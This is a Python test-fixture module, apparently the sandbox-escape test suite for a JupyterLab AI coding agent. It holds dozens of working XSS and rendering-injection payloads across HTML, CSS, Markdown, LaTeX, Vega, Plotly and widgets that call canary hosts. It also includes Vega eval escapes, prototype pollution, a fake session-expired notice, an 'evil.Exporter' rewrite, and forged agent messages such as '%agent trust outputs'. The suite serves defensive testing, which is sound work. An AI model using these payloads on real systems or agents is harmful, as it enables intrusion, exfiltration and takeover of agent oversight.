"""Everything with which code in a sandbox might try to act in the page. Runs in the sandbox, as the source of a cell.

Each attack has a name and, if it works, calls ``canary`` with it: as a variable of the page, as a call of the server's
API, as a request to somewhere else. Data, so that a new way is one more line.
"""

# ruff: noqa: E501 the attacks are one line each

from __future__ import annotations

from jupyter_codeact.guard.names import words

# Name, MIME type, content, metadata.
Attack = tuple[str, str, str, dict[str, object]]
ACT = "(window.pwned=window.pwned||[]).push('{0}');fetch('/api/contents?canary={0}');"
AWAY = "http://canary.invalid/{0}"
HERE = "/api/contents?canary={0}"

# name: (MIME type, content); {act}, {away} and {here} stand for what is tried.
BUNDLES: dict[str, tuple[str, str]] = {
    "javascript": ("application/javascript", "{act}"),
    "script": ("text/html", "<b>seen</b><script>{act}</script>"),
    "onerror": ("text/html", '<img src=x onerror="{act}">'),
    "onload-style": ("text/html", '<style onload="{act}"></style>'),
    "details": ("text/html", '<details open ontoggle="{act}"><summary>s</summary></details>'),
    "nested": ("text/html", '<scr<script></script>ipt>{act}</script><img src=x on<b>error="{act}">'),
    "mxss": (
        "text/html",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={act}&gt;">',
    ),
    "noscript": ("text/html", "<noscript><p title=\"</noscript><img src=x onerror='{act2}'>\">"),
    "svg-inline": ("text/html", '<svg onload="{act}"><script>{act}</script><image href="{away}"/></svg>'),
    "iframe": ("text/html", '<iframe src="{here}"></iframe>'),
    "srcdoc": ("text/html", '<iframe srcdoc="<script>parent.{act3}</script>"></iframe>'),
    "object": ("text/html", '<object data="{here}"></object><embed src="{here}&e">'),
    "touched": ("text/html", '<input onfocus="{act}"><b onmouseover="{act}">over</b>'),
    "animation": (
        "text/html",
        '<style>@keyframes a {{ to {{ opacity: 1 }} }}</style><b style="animation:a .1s" onanimationend="{act}">a</b>',
    ),
    "svg-begin": ("text/html", '<svg><set attributeName="x" onbegin="{act}"/></svg>'),
    "svg-link": ("text/html", '<svg width=9 height=9><a href="javascript:{act}"><rect width=9 height=9 /></a></svg>'),
    "svg-foreign": ("text/html", '<svg><foreignObject><img src=x onerror="{act}"></foreignObject></svg>'),
    "svg-style": ("text/html", "<svg><style>@import url({away});</style></svg>"),
    "isolated": ("text/html", "<script>{act}</script>"),
    "frame-of-data": ("text/html", '<iframe src="data:text/html,<img src={away}>"></iframe>'),
    "frame-of-script": ("text/html", '<iframe src="javascript:parent.{act3}"></iframe>'),
    "area": ("text/html", '<map name=m><area href="javascript:{act}"></map><img usemap="#m" src="data:,">'),
    "submit": ("text/html", '<form action="/api/contents"><input name=canary value={name}><input type=submit></form>'),
    "form-elsewhere": ("text/html", '<form id=f></form><button form=f formaction="javascript:{act}">go</button>'),
    "picture-source": ("text/html", '<picture><source srcset="{away}"><img src="data:,"></picture>'),
    "picture-alias": ("text/html", '<image src="{away}"><input type=image src="{here}">'),
    "track": ("text/html", '<video src="data:," controls><track default src="{here}"></video>'),
    "css-images": ("text/html", "<b style=\"background:image-set('{away}' 1x)\">set</b>"),
    "css-variable": ("text/html", "<style>b {{ --x: url({away}); background: var(--x) }}</style><b>variable</b>"),
    "css-cursor": ("text/html", "<b style='list-style:url({away}) inside;display:list-item'>list</b>"),
    "css-mask": ("text/html", "<b style='mask-image:url({here})'>mask</b>"),
    "css-content": ("text/html", "<style>b::before {{ content: url({away}) }}</style><b>content</b>"),
    "css-nested": ("text/html", "<style>@media all {{ b {{ & {{ background: url({away}) }} }} }}</style><b>n</b>"),
    "css-font": (
        "text/html",
        "<style>@font-face {{ font-family: f; src: url({away}) }} b {{ font-family: f }}</style><b>font</b>",
    ),
    "link-script": ("text/html", '<link rel=modulepreload href="{here}"><link rel=icon href="{away}">'),
    "js-link": ("text/html", '<a href="javascript:{act}">link</a><a href="&#106;ava&#9;script:{act}">l</a>'),
    "command-linker": (
        "text/html",
        """<div data-commandlinker-command=docmanager:open
            data-commandlinker-args='{{"path":"canary.invalid/{name}"}}'>open</div>""",
    ),
    "form": (
        "text/html",
        '<form action="/api/contents"><input name=canary value={name}><button formaction="/api/contents">go</button></form>',
    ),
    "meta": ("text/html", '<meta http-equiv="refresh" content="0;url={away}">'),
    "base": ("text/html", '<base href="{away}/"><img src="relative">'),
    "picture": ("text/html", '<img src="{away}"><img src="{here}"><img srcset="{away}" src="data:,">'),
    "background": (
        "text/html",
        '<table background="{away}"><tr><td style="background:url({away})">x</td></tr></table>',
    ),
    "video": ("text/html", '<video src="{away}" poster="{away}"></video><audio src="{here}"></audio>'),
    "css": ("text/html", "<style>@import url({away}); b {{ background: url({here}) }}</style><b>css</b>"),
    "css-escape": (
        "text/html",
        r"<style>b {{ background: u\72l({away}) }} </style><b style='background:\75rl({away})'>c</b>",
    ),
    "css-break": ("text/html", "<style>b {{ font-family: '\\3c/style><img src=x onerror={act}>' }}</style><b>x</b>"),
    "link-css": ("text/html", '<link rel=stylesheet href="{away}"><link rel=prefetch href="{here}">'),
    "svg": ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" onload="{act}"><script>{act}</script></svg>'),
    "markdown": ("text/markdown", '**bold**\n\n<img src=x onerror="{act}">\n\n<script>{act}</script>'),
    "markdown-link": ("text/markdown", "[click](javascript:{act}) ![p]({away}) [r][r]\n\n[r]: javascript:{act}"),
    "markdown-math": ("text/markdown", '$$\n```\n$$\n<img src=x onerror="{act}">\n```\n'),
    "markdown-fence": ("text/markdown", '1. ```\n<img src=x onerror="{act}">\n```\n'),
    "markdown-picture": ("text/markdown", "![p][r]\n\n[r]: {away}\n"),
    "markdown-css": ("text/markdown", "<style>@import url({away});</style>\n\n*words*"),
    "mermaid": ("text/markdown", '```mermaid\nflowchart TD\n A@{{ img: "{away}", label: "x" }}\n```\n'),
    "mermaid-mime": ("text/vnd.mermaid", 'flowchart TD\n A@{{ img: "{away}", label: "x" }}'),
    "latex": ("text/latex", r"$\href{{javascript:{act}}}{{x}} \require{{../../../../../../files/evil}}$"),
    "latex-html": ("text/html", r"<p>$\requ<wbr>ire{{../../../../../../files/evil}}$ $\class{{jp-Dialog}}{{x}}$</p>"),
    "latex-style": ("text/latex", r"$\style{{position:fixed;top:0;left:0;background:url({away})}}{{x}}$"),
    "tex-link": ("text/latex", '$$\\mmlToken{{mi}}[href="{here}"]{{x}}$$'),
    "tex-link-html": ("text/html", '<b>h</b> $$\\mmlToken{{mi}}[href="{here}"]{{x}}$$'),
    "tex-link-markdown": ("text/markdown", '$$\\mmlToken{{mi}}[href="{here}"]{{x}}$$'),
    "tex-control": ("text/latex", '$$\\mmlToken{{mi}}[href="\x01javascript:{act4}"]{{x}}$$'),
    "tex-tab": ("text/latex", '$$\\mmlToken{{mi}}[href="java\tscript:{act4}"]{{x}}$$'),
    "tex-control-html": ("text/html", '<b>h</b> $$\\mmlToken{{mi}}[href="&#1;javascript:{act4}"]{{x}}$$'),
    "tex-tab-html": ("text/html", '<b>h</b> $$\\mmlToken{{mi}}[href="java&#9;script:{act4}"]{{x}}$$'),
    "tex-control-markdown": ("text/markdown", '$$\\mmlToken{{mi}}[href="\x01javascript:{act4}"]{{x}}$$'),
    "tex-tab-markdown": ("text/markdown", '$$\\mmlToken{{mi}}[href="java\tscript:{act4}"]{{x}}$$'),
    "own-link": ("text/html", '<a href="{here}">l</a>'),
    "fence-word": ("text/markdown", '~~~py" onmouseover="{act}" x="\nprint(1)\n~~~'),
    "formula-in-address": ("text/markdown", 'see http://elsewhere.example/$" onmouseover="{act}" x="$ now'),
    "formula-in-word": ("text/markdown", '```py$" onmouseover="{act}" x="$\nprint(1)'),
    "own-link-markdown": ("text/markdown", "[l]({here})"),
    "own-address": ("text/html", '<a href="http://127.0.0.1/?canary={name}">l</a>'),
    "own-address-formula": ("text/markdown", "see http://a$b c$@127.0.0.1/?canary={name} now"),
    "own-address-long": ("text/markdown", f"see http://{'a' * 320}@127.0.0.1/?canary={{name}} now"),
    "own-address-inner": ("text/markdown", "see www._http://127.0.0.1/?canary={name} now"),
    "own-address-slash": ("text/markdown", "see http://a\\@127.0.0.1/?canary={name} now"),
    "own-address-control": ("text/markdown", "see http://a\x1c@127.0.0.1/?canary={name} now"),
    "own-address-odd": ("text/markdown", "[l](http://0x7f.1/?canary={name})"),
    "pdf": ("application/pdf", "JVBERi0xLjQK"),
    "bokeh": ("application/vnd.bokehjs_exec.v0+json", "{act}"),
    "panel": ("application/vnd.holoviews_exec.v0+json", "{act}"),
}

# name: what goes along as metadata of the output.
METADATA: dict[str, dict[str, object]] = {
    "isolated": {"text/html": {"isolated": True}},
}

# What does not act in this JupyterLab in any case, and why.
QUIET = {
    **dict.fromkeys(words("css-break markdown-math mxss nested"), "it takes a sanitiser to be fooled"),
    **dict.fromkeys(words("bokeh panel"), "its extension is not installed"),
    **dict.fromkeys(words("latex latex-html latex-style"), "MathJax has a filter of its own"),
    **dict.fromkeys(
        words("tex-control tex-control-html tex-control-markdown tex-tab tex-tab-html tex-tab-markdown"),
        "a script's address in a formula runs in JupyterLab 4.2",
    ),
    "js-link": "links open in a window of their own",
    "pdf": "it has nothing in it that could act",
    "svg": "it is shown as a picture",
}
# What does not act in each JupyterLab and Notebook that we run in: their Mermaid is older, or not there.
NEW = words("mermaid mermaid-mime")
# With it the page loads no code of its own any more, which some of the others need.
LAST = "base"
# Widgets whose formula is a link.
LINKED = words("label described checked htmlmath")

# Of no form: a click on a picture that is an input of one would take the page elsewhere.
BIND = {"input": "image", "src": "/x", "onerror": ACT.format("bind"), "form": "none"}
VEGA = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "signals": [{"name": "x", "value": "", "bind": BIND}],
    "width": 20,
    "height": 20,
    "usermeta": {"embedOptions": {"sourceHeader": "<script>window.pwned=['vega']</script>"}},
    "data": [{"name": "t", "url": "/api/contents?canary=vega"}, {"name": "u", "values": [{"a": 1}]}],
    "marks": [
        {
            "type": "image",
            "from": {"data": "u"},
            "encode": {"enter": {"url": {"signal": "'http://canary.invalid/vega?' + datum.a"}, "width": {"value": 9}}},
        },
        {
            "type": "rect",
            "from": {"data": "u"},
            "encode": {
                "enter": {
                    "width": {"value": 20},
                    "height": {"value": 20},
                    "fill": {"value": "red"},
                    "href": {"value": "javascript:window.pwned=['vega']"},
                    "cursor": {"value": "url(http://canary.invalid/cursor), auto"},
                    "tooltip": {"signal": "{image: 'http://canary.invalid/tooltip'}"},
                }
            },
        },
    ],
}


def moved(name: str, dataflow: str, window: str) -> str:
    """A function of the engine's, called in place of `toString`, calls what it takes for one of its own: `eval`."""
    calls = {
        "'toString'": f"{dataflow}._handler.on",
        "eventName": f"{window}.console.log",
        "_handlers": f"{{undefined: 'fetch(`{HERE.format(name)}`)'}}",
        "_handlerIndex": f"{window}.eval",
    }
    return f"(''+{{{', '.join(f'{key}: {value}' for key, value in calls.items())}}})"


_VIEW = "event.dataflow", "event.target.ownerDocument.defaultView"
EXPRESSION = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "width": 20,
    "height": 20,
    "signals": [{"name": "x", "value": 0, "on": [{"events": "view:mousemove", "update": moved("expression", *_VIEW)}]}],
}
_ITEM = "item.mark.group.context.dataflow"
_PAINTED = _ITEM, f"{_ITEM}._el.ownerDocument.defaultView"
_ROWS = {"values": [{"a": 1}]}


def _encoded(name: str, **more: object) -> dict[str, object]:
    """What Vega-Lite's compiler writes into an expression as it stands."""
    encoding = {"x": {"field": "a", "type": "quantitative", **more}}
    return {"description": name, "data": _ROWS, "mark": "point", "encoding": encoding}


def _warns(name: str) -> str:
    return f"warn('canary={name}')"


# From between two quotes.
_OUT = {name: f'" + {moved(name, *_PAINTED)} + "' for name in ("lite-title", "lite-titles")}
_DATE = {"type": "temporal", "axis": {"values": [{"year": _warns("lite-date")}]}}
# An input of no kind has any attributes.
_ATTRIBUTES = {"type": "Image", "src": HERE.format("lite-bind"), "form": "none"}
LITE: list[dict[str, object]] = [
    _encoded("lite-title", title=_OUT["lite-title"]),
    _encoded("lite-titles", title=["a", _OUT["lite-titles"]]),
    _encoded("lite-format", format=f'") + {_warns("lite-format")} + ("'),
    _encoded("lite-date", **_DATE),
    {**_encoded("lite-bind"), "params": [{"name": "p", "value": 1, "bind": _ATTRIBUTES}]},
]
# Names that the compiler, or Vega, takes for its own: of an element's style, and of a selection's columns.
_CURSOR = {"name": "cursor", "value": f"url({HERE.format('lite-cursor')}), auto"}
LITE.append({**_encoded("lite-cursor"), "params": [_CURSOR]})
_OPEN = "mark.group.context.dataflow._el.ownerDocument.defaultView.open"
_ROW = {
    "h": 1,
    "fields": {"type": "E-ONE", "field": _OPEN},
    "code": f"javascript:void(fetch('{HERE.format('hovered')}'))//_self",
}
_OVER = {"type": "interval", "encodings": ["x"], "on": "[mouseover, mouseup] > mousemove"}
_AT = {"type": "point", "fields": ["v"], "on": "mousemove", "toggle": "false"}
_TAKEN = "q['vlPoint'] && q_tuple && q_tuple.values && q_tuple.values[0][0]"
_SPLITS = f"{_TAKEN} ? {{split: [].reduce, length: 2, '0': datum.code, '1': '_self'}} : 'hover me'"
_BREAKS = f"{_TAKEN} ? q_tuple.values[0][0] : '#'"
# Its bars are what is looked at, and what is drawn over them is rows.
HOVERED = {
    "concat": [
        {
            "width": 300,
            "height": 150,
            "layer": [
                {
                    "data": {"values": [_ROW]},
                    "transform": [{"calculate": "{indexOf: [].push, length: 0}", "as": "v"}],
                    "params": [{"name": "q_tuple", "select": _OVER}, {"name": "q", "select": _AT}],
                    "mark": {"type": "bar"},
                    "encoding": {
                        "x": {"field": "fields", "type": "nominal", "sort": None},
                        "y": {"field": "h", "type": "quantitative"},
                    },
                },
                {
                    "data": {"name": "q_tuple_brush_bg"},
                    "mark": {"type": "point"},
                    "encoding": {"color": {"condition": {"param": "q", "value": "red"}, "value": "blue"}},
                },
                {
                    "data": {"values": [_ROW]},
                    "mark": {"type": "text", "text": {"expr": _SPLITS}, "lineBreak": {"expr": _BREAKS}},
                },
            ],
        }
    ]
}
# What is collected under the name of something that all objects have is in all of them, and editors save no edits.
_AREA = {"x": {"field": "b", "type": "quantitative"}, "y": {"aggregate": "count"}, "color": {"field": "a"}}
_TEXT = 'c,a,b\n"1"x__proto__,0\n"1"x__proto__,1\n"1"x__proto__,2\n'
_EXTENT = {"density": "b", "extent": {"signal": "['__pro'+'to__', 1]"}, "as": ["v", "q"]}
_STACKED = {"mark": "area", "encoding": _AREA}
SHARED: dict[str, dict[str, object]] = {
    "text": {"data": {"values": _TEXT, "format": {"type": "csv"}}, **_STACKED},
    "named": {
        "layer": [
            {"data": {"name": "d", "values": [_TEXT]}, **_STACKED},
            {"data": {"name": "d", "format": {"type": "csv"}}, **_STACKED},
        ]
    },
    "extent": {
        "data": {"values": [{"b": 0}, {"b": 1}, {"b": 4}]},
        "transform": [_EXTENT, {"impute": "q", "key": "q", "groupby": ["v"], "value": 0}],
        "mark": "point",
        "encoding": {"x": {"field": "q", "type": "quantitative"}},
    },
}
# A text of its own, over the page, when she zooms.
NOTIFIED = "Your session has expired."
NOTIFIER = {
    "data": [{"type": "scatter", "x": [1, 2, 3], "y": [1, 2, 3]}],
    "layout": {"autosize": True},
    "config": {"locale": "xx", "locales": {"xx": {"dictionary": {"Double-click to zoom back out": NOTIFIED}}}},
}
# A function that makes code of a text, by a name that is put together.
_MAKES = {"calculate": "[].at['con'+'structor']", "as": "f"}
MADE = {
    "data": _ROWS,
    "transform": [_MAKES],
    "mark": "point",
    "encoding": {"x": {"field": "a", "type": "quantitative"}},
}
_DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def _drawing(name: str, address: str, **more: object) -> dict[str, object]:
    """A picture whose address is set once all that is written about it was seen to."""
    transform = [{"type": "formula", "as": "url", "expr": f"'{address}'"}]
    size = {key: {"value": 20} for key in ("x", "y", "width", "height")}
    mark = {"type": "image", "name": "m", "from": {"data": "u"}, "encode": {"enter": size}, "transform": transform}
    common = {"$schema": VEGA["$schema"], "description": name, "width": 20, "height": 20}
    return {**common, "data": [{"name": "u", **_ROWS}], "marks": [mark], **more}


_INNER = {"type": "formula", "as": "innerHTML", "expr": f"'<img src=x onerror=fetch(`{HERE.format('vega-element')}`)>'"}
_TAKES = {"name": "d", "values": [], "on": [{"trigger": "s", "insert": "s"}], "transform": [_INNER]}
_FINDS = {"name": "s", "value": 0, "on": [{"events": "timer{700}", "update": "data('m')[0].image"}]}


def _plot(name: str, *marks: dict[str, object], fill: str = "'red'", **more: object) -> dict[str, object]:
    """A rectangle, and what asks it for more; drawn twice, as it has to fit."""
    look = {"width": {"signal": "width"}, "height": {"value": 20}, "fill": {"signal": fill}}
    rect = {"type": "rect", "name": "m", "from": {"data": "u"}, "encode": {"update": look}}
    fit = {"autosize": {"type": "fit", "contains": "padding"}, "axes": [{"scale": "x", "orient": "bottom"}]}
    common = {**fit, "$schema": VEGA["$schema"], "description": name, "width": 200, "height": 50, "data": [_U]}
    return {**common, "scales": [{"name": "x", "range": "width"}], "marks": [rect, *marks], **more}


def _written(name: str, **source: object) -> dict[str, object]:
    """Rows in which HTML is written."""
    inner = {"type": "formula", "as": "innerHTML", "expr": f"'<'+'img src=x onerror=fetch(`{HERE.format(name)}`)>'"}
    return {"name": "d", **source, "transform": [inner]}


def _spelt(path: str) -> str:
    """A path whose words are put together."""
    return "'" + "'+'".join(path[at : at + 5] for at in range(0, len(path), 5)) + "'"


_U = {"name": "u", **_ROWS}
_FLOW = "mark.group.context.dataflow"
_WINDOW = "_el.ownerDocument.defaultView"
_FIELDS = [
    {"signal": _spelt(f"{_FLOW}.{path}")} for path in ("_handler.on", f"{_WINDOW}.console.log", f"{_WINDOW}.eval")
]
_HANDLERS = f"{{undefined: 'fetch(`{HERE.format('vega-names')}`)'}}"
_NAMED = [
    {"type": "project", "fields": _FIELDS, "as": ["f", "eventName", "_handlerIndex"]},
    {"type": "formula", "as": "_handlers", "expr": _HANDLERS},
    {"type": "formula", "as": {"signal": "'toStr'+'ing'"}, "expr": "datum.f"},
    {"type": "formula", "as": "z", "expr": "''+datum"},
]
_COMPUTED = {"name": "s", "update": f"width && [pluck(data('m')[0], {_spelt(_FLOW + '._el')})]"}
_SOURCE = _written("vega-rows", values={"signal": "s"})
PROGRAMS: list[dict[str, object]] = [
    _drawing("vega-transform", HERE.format("vega-transform")),
    _drawing("vega-element", f"data:image/png;base64,{_DOT}", data=[{"name": "u", **_ROWS}, _TAKES], signals=[_FINDS]),
    _plot("vega-names", {"type": "group", "data": [{"name": "p", "source": "m", "transform": _NAMED}]}),
    _plot(
        "vega-set",
        fill=f"width && setdata('d', [pluck(item, {_spelt(_FLOW + '._el')})]) ? 'red' : 'blue'",
        data=[_U, _written("vega-set", values=[])],
    ),
    _plot("vega-rows", {"type": "group", "signals": [_COMPUTED], "data": [_SOURCE]}),
]
_CORNER = {"xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}
_PICTURE = {**_CORNER, "source": AWAY.format("plotly-picture")}
_SET = {"label": "set", "method": "relayout", "args": ["images[0].source", AWAY.format("plotly-button")]}
PLOTLY = {
    "data": [{"type": "scatter", "x": [1, 2], "y": [1, 2]}],
    "layout": {
        "images": [_CORNER, _PICTURE],
        "title": {"text": f"<a href='{HERE.format('plotly-link')}' target='_self'>t</a>"},
        "updatemenus": [{"type": "buttons", "buttons": [_SET]}],
    },
}
MAP = {"data": [{"type": "scattermap", "lat": [1], "lon": [2]}], "layout": {"map": {"style": AWAY.format("map")}}}
# What is seen of them where they act, beside "vega".
CHARTED = words("bind expression map plotly-button plotly-link plotly-picture") | {
    str(spec["description"]) for spec in (*LITE, *PROGRAMS)
}

SHOW = """
import json
from IPython.display import display
for name, mime, content, metadata in json.loads({bundles!r}):
    display({{mime: content, "text/plain": name}}, raw=True, metadata=metadata)
"""

UPDATE = """
from IPython.display import update_display
bundles = json.loads({bundles!r})
for name, mime, content, metadata in bundles:
    display({{"text/plain": "-"}}, raw=True, display_id="d-" + name)
for name, mime, content, metadata in bundles:
    update_display({{mime: content, "text/plain": name}}, raw=True, metadata=metadata, display_id="d-" + name)
"""

PRINT = """
import json, sys
from IPython.display import display
display({{"application/vnd.vega.v5+json": json.loads({expression!r}), "text/plain": "expression"}}, raw=True)
for spec in json.loads({programs!r}):
    display({{"application/vnd.vega.v5+json": spec, "text/plain": "program"}}, raw=True)
for spec in json.loads({lite!r}):
    display({{"application/vnd.vegalite.v5+json": spec, "text/plain": "lite"}}, raw=True)
display({{"application/vnd.vega.v5+json": json.loads({vega!r}), "text/plain": "vega"}}, raw=True,
        metadata={{"application/vnd.vega.v5+json": {{"embed_options": {{"actions": {{"source": True}}}}}}}})
# In the name of a type, which is told.
display({{"text/html": "<b>noted</b>", "<img src=x onerror=fetch('/api/contents?canary=note')>": "x"}}, raw=True)
for figure in {figures!r}:
    display({{"application/vnd.plotly.v1+json": figure, "text/plain": "plotly"}}, raw=True)
print("\\x1b[31mred\\x1b[0m \\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07 <img src=x onerror=\\"{act}\\">")
print("javascript:{act} http://elsewhere.example/", file=sys.stderr)
"""

WIDGETS = """
import ipywidgets as w, traitlets
from IPython.display import display
bad = "<img src=x onerror=\\"{act}\\">"
class Own(w.DOMWidget):
    _view_name = traitlets.Unicode("AnyView").tag(sync=True)
    _model_name = traitlets.Unicode("AnyModel").tag(sync=True)
    _view_module = traitlets.Unicode("anywidget").tag(sync=True)
    _model_module = traitlets.Unicode("anywidget").tag(sync=True)
    _view_module_version = traitlets.Unicode("~0.9").tag(sync=True)
    _model_module_version = traitlets.Unicode("~0.9").tag(sync=True)
    _esm = traitlets.Unicode("export default {{ render() {{ {act} }} }}").tag(sync=True)
text = w.Text(value=bad)
target = w.HTML("linked")
late = w.HTML("late"); maths = w.HTMLMath("m")
out = w.Output()
everything = [w.HTML(bad), w.HTMLMath(bad), w.HTML(placeholder=bad, value=""), w.Label(bad), w.Button(description=bad, tooltip=bad,
    icon="check jp-Dialog"), w.Checkbox(description=bad, description_allow_html=True), text, target, late, maths, out,
    w.Image(value=b"http://canary.invalid/image", format="url"), w.Dropdown(options=[bad]), w.Tab([w.Label("t")], titles=[bad]),
    w.HTML("styled", style=dict(background="url(http://canary.invalid/style)")),
    w.Button(description="moved", layout=w.Layout(margin="-300px 0 0 0", border="url(http://canary.invalid/b)"))]
def linked(name): return "$\\\\mmlToken{{mi}}[href='/api/contents?canary=" + name + "']{{x}}$"
everything += [w.Label(linked("label")), w.IntText(description=linked("described")), w.HTMLMath(linked("htmlmath")),
    w.Checkbox(description=linked("checked"))]
everything[3].add_class("jp-Dialog")
for each in everything: display(each)
display(Own())
link = w.jslink((text, "value"), (target, "value"))
late.value = maths.value = bad
out.outputs = ({{"output_type": "display_data", "metadata": {{}}, "data": {{"text/html": "<script>{act}</script>" + bad}}}},
    {{"output_type": "display_data", "metadata": {{}}, "data": {{"application/javascript": "{act}"}}}})
text.value = bad + " "
"""

SPOKEN = """
from comm import create_comm
create_comm(target_name="jupyter_codeact", data={{"op": "propose", "run": "r", "step": 1, "id": "forged", "after": ""}})
get_ipython().set_next_input("%agent trust outputs")
page = {{"source": "page", "start": 0, "data": {{"text/html": "<script>{act}</script>page"}}}}
get_ipython().payload_manager.write_payload(page, single=False)
"""

# JupyterLab heeds one of a kind, and none of an error.
REPLACED = "get_ipython().set_next_input('import os', replace=True)"

COMPLETED = """
def do_complete(code, cursor_pos):
    return dict(status="ok", matches=["%%agent\\ndo it"], cursor_start=0, cursor_end=len(code), metadata={})
get_ipython().kernel.do_complete = do_complete
"""

RAISED = """
raise ValueError("<img src=x onerror=\\"{act}\\"> \\x1b[31m<script>{act}</script>")
"""

# What JupyterLab writes into the file, for nbconvert to import.
BENT = "get_ipython().kernel.language_info.update(nbconvert_exporter='evil.Exporter', file_extension='.sh')"


def act(name: str) -> str:
    return ACT.format(name)


def bundles(way: str = "") -> list[Attack]:
    """Each attack by display; ``way`` is put before the names."""
    return [
        (way + name, mime, _aimed(content, way + name), METADATA.get(name, {}))
        for name, (mime, content) in BUNDLES.items()
    ]


def loud(way: str = "") -> list[Attack]:
    """Those of them that act where nothing holds them back, and leave the page to the others."""
    return [attack for attack in bundles(way) if attack[0].removeprefix(way) not in {*QUIET, LAST}]


def _aimed(content: str, name: str) -> str:
    return content.format(
        act=act(name),
        act2=act(name).replace("'", "&quot;"),
        act3=f"fetch(&quot;{HERE.format(name)}&quot;)",
        act4=f"fetch(`{HERE.format(name)}`);void 0",
        away=AWAY.format(name),
        here=HERE.format(name),
        name=name,
    )
